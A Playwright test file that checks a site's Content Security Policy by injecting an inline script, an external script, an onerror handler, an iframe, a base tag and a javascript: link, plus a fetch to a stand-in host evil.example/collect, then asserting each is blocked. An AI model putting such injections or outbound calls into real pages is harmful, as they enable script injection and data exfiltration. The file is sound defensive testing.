import {expect, hydrated, test} from '../support/fixtures';
import {violationsOf} from '../support/violations';

test.describe('under the content security policy', () => {
  test.describe('what the site does not need', () => {
    test.use({expectedProblems: [/Content Security Policy|Refused|violates|404/]});

    test('is stopped', async ({page}) => {
      const violations = await violationsOf(page);
      await page.goto('/');
      await hydrated(page);
      await page.evaluate(() => {
        const inline = document.createElement('script');
        inline.textContent = 'window.hacked = "inline"';
        const foreign = document.createElement('script');
        foreign.src = 'https://evil.example/x.js';
        document.body.append(inline, foreign);
        document.body.insertAdjacentHTML(
          'beforeend',
          '<img src=/nothing.svg onerror="window.hacked = 1"><iframe src="https://evil.example/"></iframe><base href="https://evil.example/">',
        );
        // Code from a string, in a place where the policy of the page holds.
        document.body.insertAdjacentHTML('beforeend', '<a id="script-link" href="javascript:window.hacked = 2">x</a>');
        document.getElementById('script-link')?.click();
        void fetch('https://evil.example/collect').catch(() => undefined);
      });
      const stopped = () => [...new Set(violations.map((violation) => violation.split(' ')[0] ?? ''))].sort();
      await expect
        .poll(stopped)
        .toEqual(['base-uri', 'connect-src', 'frame-src', 'script-src-attr', 'script-src-elem']);
      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    });
  });
});
